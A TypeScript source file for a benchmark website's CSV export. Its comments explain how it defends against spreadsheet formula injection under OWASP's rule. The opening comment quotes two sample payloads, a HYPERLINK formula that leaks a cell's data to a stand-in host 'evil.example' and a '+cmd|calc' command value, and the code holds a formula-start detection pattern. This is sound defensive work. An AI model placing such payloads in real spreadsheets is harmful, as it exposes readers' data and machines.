// Every CSV the site writes is made for a spreadsheet (it carries a BOM for Excel), and a spreadsheet
// runs a cell that starts like a formula: an item id `=HYPERLINK("http://evil.example/?x="&B2,"open")`
// from a run file, or `+cmd|calc` from a user's AncientBench file, would be a live link or a command
// prompt in the reader's Excel. OWASP's CSV Injection rule: a cell starting with = + - @, tab or
// carriage return gets a leading single quote, and is quoted as CSV requires. We add line feed and the
// full-width ＝ ＋ － ＠, which OWASP's testing guide lists too (some East Asian Excel set-ups take them
// as formula signs, and this site's readers type Chinese).
//
// Which cells: every text cell, whoever wrote it (ids, task names, model outputs, references,
// messages), is neutralised, so a value the site did not foresee cannot slip through. Numbers the site
// formats itself (probabilities, log-probabilities such as -0.5, counts) are written as numbers: they
// cannot hold a formula, and a spreadsheet must read them as numbers. A text cell that merely looks
// like a number ("-0.5" as an item id) is text and gets its quote. The run's JSON export keeps every
// value exactly as it is.
import Papa from 'papaparse';

/** What a cell may hold: text (neutralised), a number the site computed (as is), or nothing (empty). */
export type CsvValue = string | number | null;

/** The signs a spreadsheet reads as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\n＝＋－＠]/;

/**
 * The one CSV writer: a document (header row, `\n` line ends, no BOM) in which every text cell that
 * starts like a formula gets a leading `'` and double quotes; numbers and nulls are written as they
 * are, and other cells quoted only where CSV needs it (a comma, a quote, a line break).
 */
export function csvDocument(columns: readonly string[], rows: readonly (readonly CsvValue[])[]): string {
  // papaparse applies escapeFormulae to strings only, never to numbers: the split described above.
  return Papa.unparse({ fields: [...columns], data: rows.map((row) => [...row]) }, { newline: '\n', escapeFormulae: FORMULA_START });
}
